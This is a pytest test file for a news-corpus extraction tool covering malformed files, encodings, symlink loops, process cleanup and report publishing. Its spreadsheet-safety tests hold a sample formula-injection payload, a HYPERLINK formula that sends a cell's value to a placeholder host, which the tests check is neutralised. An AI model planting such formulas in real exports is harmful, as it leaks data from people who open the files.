"""Files, mistakes and faults from analysts' real folders (issue 17): each gives a read article, or a
problem row / a one-line message naming the file and what to do; never a traceback, never a silent loss."""
from __future__ import annotations

import codecs
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from peacetalks import load_corpus

GOOD = "Russia Hosts Syria Talks\n\nMoscow said on Tuesday it would host talks between the government and the opposition.\n"


def run_cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "peacetalks", *args], capture_output=True, text=True,
                          timeout=600, cwd=cwd)


def problems_of(corpus) -> dict[str, str]:
    return {os.path.basename(row.file): row.problem for row in corpus.problems.itertuples()}


# --- 1, 15: symbolic links in a loop, to nothing; articles in sub-folders -----------------------------

@pytest.fixture()
def linked(tmp_path: Path) -> Path:
    folder = tmp_path / "corpus"
    (folder / "bbc" / "2015").mkdir(parents=True)
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    (folder / "bbc" / "2015" / "talks.txt").write_text(GOOD.replace("Tuesday", "Friday"), encoding="utf-8")
    (folder / "loop-a.txt").symlink_to("loop-b.txt")
    (folder / "loop-b.txt").symlink_to("loop-a.txt")
    (folder / "back").symlink_to(".")  # a folder link back to the corpus itself
    (folder / "gone.txt").symlink_to("deleted-long-ago.txt")
    return folder


def test_symlink_loops_and_dangling_links_are_named_and_the_rest_is_read(linked: Path):
    corpus = load_corpus(linked)
    assert sorted(corpus.articles["id"]) == ["bbc__2015__talks", "good"]
    problems = problems_of(corpus)
    assert "symbolic link in a loop" in problems["loop-a.txt"]
    assert "symbolic link in a loop" in problems["loop-b.txt"]
    assert "symbolic link to nothing" in problems["gone.txt"]
    assert "already read" in problems["back"]


def test_the_command_line_reads_a_folder_with_a_symlink_loop(linked: Path, tmp_path: Path):
    for args in (["--json"], ["--csv", str(tmp_path / "csv")], ["--out", str(tmp_path / "tables"), "--workers", "1"]):
        result = run_cli("extract", str(linked), *args)
        assert result.returncode == 0, result.stderr
        assert "Traceback" not in result.stderr
        assert "loop-a.txt" in result.stderr and "gone.txt" in result.stderr
    tables = load_corpus(tmp_path / "tables")
    assert sorted(tables.articles["id"]) == ["bbc__2015__talks", "good"]
    assert {"loop-a.txt", "loop-b.txt", "gone.txt", "back"} <= set(problems_of(tables))


def test_articles_in_sub_folders_are_read_with_their_folder_in_the_id(tmp_path: Path):
    (tmp_path / "reuters").mkdir()
    (tmp_path / "reuters" / "geneva.txt").write_text(GOOD, encoding="utf-8")
    (tmp_path / "reuters" / ".hidden.txt").write_text(GOOD, encoding="utf-8")
    (tmp_path / "catalog.csv").write_text("id,published,evidence\nreuters/geneva,2016-02-01,the print edition\n",
                                          encoding="utf-8")
    corpus = load_corpus(tmp_path)
    article = corpus.articles.set_index("id").loc["reuters__geneva"]
    assert article["path"].endswith(os.path.join("reuters", "geneva.txt"))
    assert str(article["published"])[:10] == "2016-02-01"


def test_two_files_with_the_same_id_are_both_accounted_for(tmp_path: Path):
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "b.txt").write_text(GOOD, encoding="utf-8")
    (tmp_path / "a__b.txt").write_text(GOOD, encoding="utf-8")
    corpus = load_corpus(tmp_path)
    assert list(corpus.articles["id"]) == ["a__b"]
    skipped = corpus.problems[corpus.problems["severity"] == "skipped"]
    assert len(skipped) == 1 and "rename one" in skipped.iloc[0]["problem"]


# --- 3: a file name that is not UTF-8 ------------------------------------------------------------

def test_a_file_name_that_is_not_utf8_is_read_and_written_everywhere(tmp_path: Path):
    corpus_dir = tmp_path / "corpus"
    corpus_dir.mkdir()
    (corpus_dir / "plain.txt").write_text(GOOD, encoding="utf-8")
    raw = os.path.join(os.fsencode(corpus_dir), b"r\xe9union.txt")  # Latin-1 name, as an old zip leaves it
    with open(raw, "w", encoding="utf-8") as handle:
        handle.write(GOOD)
    corpus = load_corpus(corpus_dir)
    assert sorted(corpus.articles["id"]) == ["plain", "réunion"]
    assert "file name is not UTF-8" in problems_of(corpus)["réunion.txt"]
    result = run_cli("extract", str(corpus_dir), "--json")
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    assert "réunion" in {a["id"] for a in json.loads(result.stdout)["articles"]}
    result = run_cli("extract", str(corpus_dir), "--csv", str(tmp_path / "csv"))
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    assert "réunion" in (tmp_path / "csv" / "articles.csv").read_text(encoding="utf-8")


# --- 4, 5: UTF-16, NUL bytes, a stray Windows-1252 byte in UTF-8 ------------------------------------

def test_utf16_with_a_byte_order_mark_is_read(tmp_path: Path):
    (tmp_path / "le.txt").write_bytes(codecs.BOM_UTF16_LE + GOOD.encode("utf-16-le"))
    (tmp_path / "be.txt").write_bytes(codecs.BOM_UTF16_BE + GOOD.replace("Moscow", "Moskva").encode("utf-16-be"))
    articles = load_corpus(tmp_path).articles.set_index("id")
    assert articles.loc["le", "title"] == "Russia Hosts Syria Talks"
    assert "Moskva said on Tuesday" in articles.loc["be", "body"]
    assert set(articles["encoding"]) == {"utf-16"}


@pytest.mark.parametrize("where", ["early", "late"])
def test_a_nul_byte_is_dropped_with_a_warning_wherever_it_is(tmp_path: Path, where: str):
    filler = "The envoy spoke again about the talks in Geneva. " * (10 if where == "early" else 400)
    text = GOOD + filler + "\n"
    at = 30 if where == "early" else len(text) - 20
    (tmp_path / "nul.txt").write_bytes(text[:at].encode() + b"\x00" + text[at:].encode())
    corpus = load_corpus(tmp_path)
    assert list(corpus.articles["id"]) == ["nul"]
    assert "\x00" not in corpus.articles.iloc[0]["body"]
    assert "NUL byte dropped" in problems_of(corpus)["nul.txt"]


def test_a_real_binary_file_is_still_refused(tmp_path: Path):
    (tmp_path / "image.txt").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8)
    assert "binary" in problems_of(load_corpus(tmp_path))["image.txt"]


def test_a_stray_windows_byte_in_utf8_keeps_the_rest_utf8(tmp_path: Path):
    text = ("Assad\u2019s Future \u2013 Talks in Geneva\n\nThe envoy\u2019s plan was \u201cclear\u201d, "
            "diplomats said on Monday.\n").encode("utf-8") + b"One of them called it \x93a start\x94.\n"
    (tmp_path / "scraped.txt").write_bytes(text)
    corpus = load_corpus(tmp_path)
    article = corpus.articles.set_index("id").loc["scraped"]
    assert article["title"] == "Assad\u2019s Future \u2013 Talks in Geneva"
    assert "The envoy\u2019s plan" in article["body"] and "\u201ca start\u201d" in article["body"]
    assert article["encoding"] == "utf-8"
    problem = problems_of(corpus)["scraped.txt"]
    assert "2 bytes not UTF-8" in problem and "line 4" in problem and "Windows-1252" in problem


# --- 6, 7, 8: the analyst's CSV files: spreadsheet encodings, unmatched ids, unclosed quotes ---------------

def corpus_with(tmp_path: Path, **files: bytes | str) -> Path:
    folder = tmp_path / "corpus"
    folder.mkdir(exist_ok=True)
    (folder / "geneva-talks.txt").write_text(GOOD, encoding="utf-8")
    (folder / "vienna-talks.txt").write_text(GOOD.replace("Moscow", "Vienna"), encoding="utf-8")
    for name, content in files.items():
        path = folder / name.replace("_csv", ".csv")
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return folder


def test_a_catalog_saved_in_the_windows_encoding_is_read_with_a_warning(tmp_path: Path):
    catalog = "id,published,evidence\ngeneva-talks,2016-01-29,printed edition \u2013 page 3, Café\n"
    catalog = "id,published,evidence\ngeneva-talks,2016-01-29,\"printed edition \u2013 page 3, Café\"\n"
    events = "event,start,end,place,keywords,note\nGenève round,2016-01-29,2016-02-03,Genève,talks,\u2013\n"
    folder = corpus_with(tmp_path, catalog_csv=catalog.encode("cp1252"), events_csv=events.encode("cp1252"))
    corpus = load_corpus(folder)
    article = corpus.articles.set_index("id").loc["geneva-talks"]
    assert str(article["published"])[:10] == "2016-01-29"
    assert "page 3, Café" in article["date_evidence"]
    warnings = corpus.problems[corpus.problems["file"].str.endswith(("catalog.csv", "events.csv"))]
    assert len(warnings) == 2 and warnings["problem"].str.contains("not UTF-8").all()
    result = run_cli("extract", str(folder), "--out", str(tmp_path / "tables"), "--workers", "1")
    assert result.returncode == 0 and "catalog.csv: not UTF-8" in result.stderr, result.stderr


def test_a_catalog_id_that_matches_no_article_is_named_with_the_nearest(tmp_path: Path):
    folder = corpus_with(tmp_path, catalog_csv="id,published,evidence\ngeneva-talk,2016-01-29,print edition\n")
    corpus = load_corpus(folder)
    problem = problems_of(corpus)["catalog.csv"]
    assert "'geneva-talk' matches no article" in problem and "did you mean 'geneva-talks'" in problem
    result = run_cli("extract", str(folder), "--out", str(tmp_path / "tables"), "--workers", "1")
    assert result.returncode == 0 and "did you mean 'geneva-talks'" in result.stderr, result.stderr
    assert "geneva-talk" in " ".join(load_corpus(tmp_path / "tables").problems["problem"])


def test_an_unclosed_quote_in_the_catalog_is_refused_with_its_line(tmp_path: Path):
    folder = corpus_with(tmp_path, catalog_csv=(
        "id,published,evidence\n"
        "geneva-talks,2016-01-29,\"the print edition, page 3\n"
        "vienna-talks,2015-10-30,the dateline\n"))
    result = run_cli("extract", str(folder), "--json")
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "catalog.csv, line 2: a quote" in result.stderr and "line 3" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


def test_a_quoted_line_break_in_the_catalog_is_still_allowed(tmp_path: Path):
    folder = corpus_with(tmp_path, catalog_csv=(
        "id,published,evidence\n"
        "geneva-talks,2016-01-29,\"the print edition\npage 3\"\n"
        "vienna-talks,2015-10-30,the dateline\n"))
    articles = load_corpus(folder).articles.set_index("id")
    assert str(articles.loc["vienna-talks", "published"])[:10] == "2015-10-30"


def test_an_unclosed_quote_in_a_review_note_is_refused_with_its_line(tmp_path: Path):
    folder = corpus_with(tmp_path, review_csv=(
        "article_id,action,actor,issue,polarity,quote,note\n"
        "geneva-talks,add,russia,negotiations,1,Moscow said on Tuesday it would host talks,\"checked, see the wire\n"
        "vienna-talks,add,russia,negotiations,1,Vienna said on Tuesday it would host talks,second row\n"))
    result = run_cli("extract", str(folder), "--json")
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert "review.csv, line 2: a quote" in result.stderr and "line 3" in result.stderr


# --- 9: a key given twice in an analyst's YAML file ------------------------------------------------

def test_a_duplicate_actor_in_the_codebook_is_an_error_naming_file_key_and_lines(tmp_path: Path):
    from peacetalks.extract.codebook import DEFAULT_PATH, load_codebook
    from peacetalks.sources.problems import InputError

    lines = DEFAULT_PATH.read_text(encoding="utf-8").splitlines(keepends=True)
    first = lines.index("  russia:\n")
    block_end = next(i for i in range(first + 1, len(lines)) if lines[i].startswith("  ") and not lines[i].startswith("   "))
    # a second actor block with the same id, added after iran's, as an analyst adding "Russia" again would
    iran = lines.index("  iran:\n")
    edited = lines[:iran] + ["  russia:\n", "    names: [Kremlin]\n"] + lines[iran:]
    path = tmp_path / "codebook.yaml"
    path.write_text("".join(edited), encoding="utf-8")
    with pytest.raises(InputError) as caught:
        load_codebook(path)
    message = str(caught.value)
    assert str(path) in message and "'russia' is given twice" in message
    assert f"first on line {first + 1}" in message and f"line {iran + 1}" in message
    assert block_end > first


def test_a_duplicate_parameter_in_a_parameters_file_is_refused(tmp_path: Path):
    params = tmp_path / "params.yaml"
    params.write_text("start: 2015-01-01\nactors: [russia]\nstart: 2016-01-01\n", encoding="utf-8")
    root = Path(__file__).resolve().parents[1]
    result = run_cli("report", "--parameters", str(params), "--out", str(tmp_path / "out"), cwd=root)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "'start' is given twice (first on line 1)" in result.stderr and "line 3" in result.stderr
    assert not (tmp_path / "out").exists()


# --- 10: CSV exports are safe to open in a spreadsheet ---------------------------------------------

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'


def test_csv_exports_neutralise_formulas_and_parquet_keeps_the_text(tmp_path: Path):
    folder = tmp_path / "corpus"
    folder.mkdir()
    (folder / "=x.txt").write_text(f"Envoys to meet in Geneva next week\n\n{FORMULA}\n\n"
                                   "+Moscow said on Tuesday it would host talks.\n", encoding="utf-8")
    (folder / "plain.txt").write_text(GOOD, encoding="utf-8")
    result = run_cli("extract", str(folder), "--csv", str(tmp_path / "csv"))
    assert result.returncode == 0, result.stderr
    import csv as csv_module

    for name in ("articles", "stances", "problems", "casualties"):
        with open(tmp_path / "csv" / f"{name}.csv", encoding="utf-8", newline="") as handle:
            for row in csv_module.reader(handle):
                assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), (name, row)
    with open(tmp_path / "csv" / "articles.csv", encoding="utf-8", newline="") as handle:
        rows = {row["id"]: row for row in csv_module.DictReader(handle)}
    assert rows["'=x"]["body"].startswith("'" + FORMULA)
    # the tables themselves, and Parquet, keep the text as it is
    corpus = load_corpus(folder)
    assert corpus.articles.set_index("id").loc["=x", "body"].startswith(FORMULA)
    run_cli("extract", str(folder), "--out", str(tmp_path / "tables"), "--workers", "1")
    assert load_corpus(tmp_path / "tables").articles.set_index("id").loc["=x", "body"].startswith(FORMULA)


def test_the_table_store_in_csv_neutralises_formulas_and_reads_the_text_back(tmp_path: Path):
    """`extract --out DIR --format csv`: a headline and quotes that would start a formula get a leading apostrophe
    in the CSV files; the tables read back from them (and the review applied to them) hold the text as it is."""
    import csv as csv_module

    from peacetalks.tables.publish import read_tables

    headline = '=HYPERLINK("http://example.invalid/?"&A1,"Envoys Meet in Geneva")'
    quote = "+Moscow said on Tuesday it would host the peace talks on Syria in Geneva."
    folder = tmp_path / "corpus"
    folder.mkdir()
    (folder / "a.txt").write_text(f"{headline}\n\nMarch 15, 2016\n\n{quote}\n\n-Ankara welcomed the truce, officials said.\n",
                                  encoding="utf-8")
    (folder / "review.csv").write_text("article_id,action,actor,issue,polarity,quote,note\n"
                                       f"a,confirm,russia,negotiations,1,{quote},@checked\n", encoding="utf-8")
    result = run_cli("extract", str(folder), "--out", str(tmp_path / "tables"), "--format", "csv", "--workers", "1")
    assert result.returncode == 0, result.stderr
    for name in ("articles", "casualties", "stances", "machine_stances", "problems"):
        with open(tmp_path / "tables" / f"{name}.csv", encoding="utf-8", newline="") as handle:
            for row in csv_module.reader(handle):
                assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), (name, row)
    with open(tmp_path / "tables" / "articles.csv", encoding="utf-8", newline="") as handle:
        [article] = list(csv_module.DictReader(handle))
    assert article["title"] == "'" + headline and article["body"].startswith("'" + quote)
    back = read_tables(tmp_path / "tables")
    assert back["articles"].loc[0, "title"] == headline and back["articles"].loc[0, "body"].startswith(quote)
    stances = back["stances"].set_index("actor")
    assert stances.loc["russia", "quote"] == quote and stances.loc["russia", "coded_by"] == "machine, confirmed"
    assert stances.loc["russia", "note"] == "@checked"
    assert stances.loc["turkey", "quote"] == "-Ankara welcomed the truce, officials said."


def test_the_apostrophe_added_for_a_spreadsheet_is_exactly_the_one_taken_off():
    import pandas as pd
    import pyarrow as pa

    from peacetalks import tables

    cells = ["=SUM(A1)", "'=SUM(A1)", "''+1", "'quoted'", "plain", None, "-1", "\tindented", "@name", "\rx", ""]
    def listed(column: pd.Series) -> list:
        return [None if pd.isna(value) else value for value in column]  # an empty cell: None or NaN, both written ""

    safe = listed(tables.spreadsheet_safe(pd.DataFrame({"text": cells}))["text"])
    assert safe == ["'=SUM(A1)", "''=SUM(A1)", "'''+1", "'quoted'", "plain", None, "'-1", "'\tindented", "'@name",
                    "'\rx", ""]
    assert listed(tables.spreadsheet_text(pd.DataFrame({"text": safe}))["text"]) == cells
    arrow = pa.table({"text": pa.array(cells, pa.string()), "n": pa.array(range(len(cells)))})
    assert tables.spreadsheet_safe_arrow(arrow).column("text").to_pylist() == safe
    assert tables.spreadsheet_text_arrow(tables.spreadsheet_safe_arrow(arrow)).equals(arrow)


def test_figure_data_csv_is_spreadsheet_safe(tmp_path: Path):
    import matplotlib
    import pandas as pd

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    from peacetalks.report.style import save_figure

    fig, _ax = plt.subplots()
    save_figure(fig, "toll", pd.DataFrame({"outlet": ["@evil", "BBC"], "value": [-3, 4]}), tmp_path)
    plt.close(fig)
    assert (tmp_path / "toll.csv").read_text(encoding="utf-8").splitlines() == ["outlet,value", "'@evil,-3", "BBC,4"]


# --- 12, 15: killing the command takes its workers with it; Ctrl-C stops it with one line -----------

def _descendants(pid: int) -> set[int]:
    """The processes started by `pid`, and by those, read from /proc."""
    children: dict[int, list[int]] = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat", encoding="ascii", errors="replace") as handle:
                parent = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            continue
        children.setdefault(parent, []).append(int(entry))
    found, todo = set(), [pid]
    while todo:
        for child in children.get(todo.pop(), []):
            if child not in found:
                found.add(child)
                todo.append(child)
    return found


def _alive(pids: set[int]) -> set[int]:
    alive = set()
    for pid in pids:
        try:
            with open(f"/proc/{pid}/stat", encoding="ascii", errors="replace") as handle:
                state = handle.read().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if state != "Z":
            alive.add(pid)
    return alive


def _start_extraction(tmp_path: Path, *options: str) -> tuple[subprocess.Popen[str], set[int]]:
    import time

    if sys.platform != "linux":
        pytest.skip("process ancestry is read from Linux's /proc")
    corpus = tmp_path / "synthetic"
    subprocess.run([sys.executable, "-m", "peacetalks.synthetic", "4000", str(corpus)], check=True,
                   capture_output=True)
    process = subprocess.Popen(
        [sys.executable, "-m", "peacetalks", "extract", str(corpus), "--out", str(tmp_path / "tables"),
         "--workers", "2", "--chunk-size", "20", *options],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline:
        started = _descendants(process.pid)
        if len(started) >= 3 and any((tmp_path / "tables" / ".work" / "parts" / "keys").glob("*.parquet")):
            return process, started  # the server (or Dask's resource tracker) and two workers, extracting
        if process.poll() is not None:
            break
        time.sleep(0.1)
    os.killpg(process.pid, 9)
    pytest.fail(f"the extraction did not start its workers: {process.communicate()[1]}")


def _wait_gone(pids: set[int], seconds: float = 20) -> set[int]:
    import time

    deadline = time.monotonic() + seconds
    while _alive(pids) and time.monotonic() < deadline:
        time.sleep(0.1)
    return _alive(pids)


def test_killing_the_command_takes_the_fork_server_and_workers_with_it(tmp_path: Path):
    process, started = _start_extraction(tmp_path)
    try:
        os.kill(process.pid, 9)  # the command alone, as `kill -9 PID` or the out-of-memory killer would
        process.wait(timeout=30)
        assert _wait_gone(started) == set()
    finally:
        for pid in _alive(started):
            os.kill(pid, 9)


def test_killing_the_command_takes_the_workers_of_a_local_dask_cluster_with_it(tmp_path: Path):
    """`--engine dask` without a scheduler starts a local cluster of worker processes: killing the command takes
    them with it too (Dask's own guard: each worker process exits when the pipe its parent holds closes)."""
    pytest.importorskip("distributed")
    process, started = _start_extraction(tmp_path, "--engine", "dask")
    try:
        os.kill(process.pid, 9)
        process.wait(timeout=30)
        assert _wait_gone(started) == set()
    finally:
        for pid in _alive(started):
            os.kill(pid, 9)


def test_ctrl_c_stops_with_one_line_and_exit_code_130(tmp_path: Path):
    process, started = _start_extraction(tmp_path)
    try:
        os.killpg(process.pid, 2)  # Ctrl-C in a terminal: SIGINT to the whole foreground group
        _stdout, stderr = process.communicate(timeout=120)
        assert process.returncode == 130, stderr
        assert "Traceback" not in stderr and "KeyboardInterrupt" not in stderr, stderr
        assert [line for line in stderr.splitlines() if line.strip()] == [
            "peacetalks: interrupted (Ctrl-C); nothing was replaced: the last tables and report are as they were"]
        assert _wait_gone(started) == set()
    finally:
        for pid in _alive(started):
            os.kill(pid, 9)


# --- 2, 13, 14: the report: unreadable files, content-keyed caches, publication -----------------------

def _make_unreadable(path: Path) -> None:
    """A file named like an article that cannot be read: no read permission, or, for root (whom
    permissions do not stop), a link to a socket, which no one can open as a file."""
    if os.geteuid() != 0:
        path.write_text(GOOD, encoding="utf-8")
        path.chmod(0)
        return
    import socket

    listener = socket.socket(socket.AF_UNIX)
    target = path.parent / "s"
    listener.bind(str(target))
    listener.close()
    path.symlink_to(target.name)


def _dead_pid() -> int:
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_report_with_an_unreadable_file_an_edit_that_keeps_size_and_time_and_leftovers(tmp_path: Path):
    from conftest import make_project, run_report

    project = make_project(tmp_path / "project", malicious=False)
    seeds = project / "seeds"
    _make_unreadable(seeds / "locked.txt")
    with open(os.path.join(os.fsencode(seeds), b"r\xe9union.txt"), "w", encoding="utf-8") as handle:
        handle.write(GOOD)  # a file name that is not UTF-8 (case 3), hashed and written by the report
    edited = seeds / "edited.txt"
    edited.write_text("Talks Resume in Geneva\n\nThe envoy said on Monday that talks resume in Geneva.\n", encoding="utf-8")
    # what killed builds left: folders of builds whose process is gone
    for name in (f".reports.building-{_dead_pid()}-x1y2", f".reports.old-{_dead_pid()}-a1b2"):
        (project / name).mkdir()
        (project / name / "index.html").write_text("stale", encoding="utf-8")

    first = run_report(cwd=project)
    assert first.returncode == 0, first.stdout + first.stderr
    assert "Traceback" not in first.stderr
    problems = (project / "reports" / "tables" / "problems.csv").read_text(encoding="utf-8")
    assert "locked.txt" in problems and "cannot be read" in problems
    assert "réunion" in (project / "reports" / "tables" / "articles.csv").read_text(encoding="utf-8")
    assert sorted(p.name for p in project.iterdir() if p.name.startswith(".reports.")) == [".reports.tables"]

    # an edit that keeps the size and the modification time (cp -p, rsync -t)
    stat = edited.stat()
    edited.write_text(edited.read_text(encoding="utf-8").replace("Geneva", "Vienna"), encoding="utf-8")
    os.utime(edited, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    assert edited.stat().st_size == stat.st_size
    second = run_report(cwd=project)
    assert second.returncode == 0, second.stdout + second.stderr
    assert "articles and analyst files changed" in second.stdout
    articles = (project / "reports" / "tables" / "articles.csv").read_text(encoding="utf-8")
    assert "talks resume in Vienna" in articles and "talks resume in Geneva" not in articles

    # --force extracts again, whatever the cache holds
    forced = run_report("--force", cwd=project)
    assert forced.returncode == 0, forced.stdout + forced.stderr
    assert "(0 unchanged) extracted" in forced.stdout


def test_a_read_only_parent_of_the_out_folder_is_a_clear_message(tmp_path: Path):
    from conftest import make_project, run_report

    project = make_project(tmp_path / "project", malicious=False)
    locked = project / "locked"
    locked.mkdir()
    if os.geteuid() == 0:  # root writes anywhere permissions allow none: make the folder immutable instead
        if subprocess.run(["chattr", "+i", str(locked)], capture_output=True).returncode != 0:
            pytest.skip("running as root without chattr: cannot make a read-only folder")
    else:
        locked.chmod(0o555)
    try:
        result = run_report("--out", "locked/reports", cwd=project)
    finally:
        if os.geteuid() == 0:
            subprocess.run(["chattr", "-i", str(locked)], check=True)
        locked.chmod(0o755)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and "locked: cannot write here" in lines[0] and "--out" in lines[0]


def _report_folder(path: Path, label: str) -> Path:
    path.mkdir()
    for name in ("index.html", "01_corpus.html", "figures.csv"):
        (path / name).write_text(label * 1000, encoding="utf-8")
    (path / ".build.json").write_text("{}", encoding="utf-8")
    return path


def test_publication_is_one_step_and_safe_when_builds_race(tmp_path: Path):
    import threading

    from peacetalks.report.output import swap_into_place

    out = _report_folder(tmp_path / "reports", "0")
    seen_missing: list[str] = []
    stop = threading.Event()

    def reader() -> None:  # someone opening the report while builds publish it
        while not stop.is_set():
            try:
                text = (out / "index.html").read_text(encoding="utf-8")
            except OSError as err:
                seen_missing.append(str(err))
                continue
            if len(set(text)) != 1 or len(text) != 1000:
                seen_missing.append(f"a page that is not one build's: {text[:20]!r}")

    def publisher(label: str) -> None:
        for round_ in range(40):
            build = _report_folder(tmp_path / f".reports.building-{os.getpid()}-{label}{round_}", label)
            swap_into_place(build, out)
            assert not build.exists()

    watching = threading.Thread(target=reader)
    watching.start()
    builders = [threading.Thread(target=publisher, args=(label,)) for label in "ab"]
    for thread in builders:
        thread.start()
    for thread in builders:
        thread.join()
    stop.set()
    watching.join()
    assert seen_missing == []
    assert (out / "index.html").read_text(encoding="utf-8")[:1] in "ab"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["reports"]


# --- 11: one very large article takes time in proportion to its size --------------------------------

def _transcript(paragraphs: int) -> str:
    """A long article of quoted statements, as a transcript or a live blog reads (sentences of this test's own)."""
    speakers = ["Lavrov", "Kerry", "the opposition spokesman", "the UN envoy", "a government official"]
    return "Talks in Geneva\n\n" + "\n\n".join(
        f'"We believe that the peace talks in Geneva must go on without preconditions, round {i} of them," '
        f"{speakers[i % 5]} said on Tuesday. We support a ceasefire across the country." for i in range(paragraphs))


def test_a_large_article_takes_time_in_proportion_to_its_size():
    import time

    from peacetalks.sources.catalog import NO_ANALYST_FILES
    from peacetalks.extract.document import process_documents
    from peacetalks.sources.reading import RawDocument

    def cpu_seconds(paragraphs: int) -> float:
        document = RawDocument("long", "long.txt", _transcript(paragraphs), "utf-8", "")
        best = float("inf")
        for _ in range(2):
            began = time.process_time()
            process_documents([document], NO_ANALYST_FILES)
            best = min(best, time.process_time() - began)
        return best

    cpu_seconds(50)  # load and compile everything first
    small, large = cpu_seconds(2_500), cpu_seconds(10_000)  # about 0.3 MB and 1.2 MB
    # four times the text: about four times the time when linear, sixteen when quadratic (it was: 0.6 s and 9 s)
    assert large < 8 * small, (small, large)


def test_an_archive_export_in_utf16_is_read(tmp_path: Path):
    export = tmp_path / "export.csv"
    rows = "title,text\nTalks in Geneva,\"Moscow said on Tuesday it would host talks, the envoy said.\"\n"
    export.write_bytes(codecs.BOM_UTF16_LE + rows.encode("utf-16-le"))
    articles = load_corpus(export).articles
    assert list(articles["title"]) == ["Talks in Geneva"]
    assert "host talks" in articles.iloc[0]["body"]
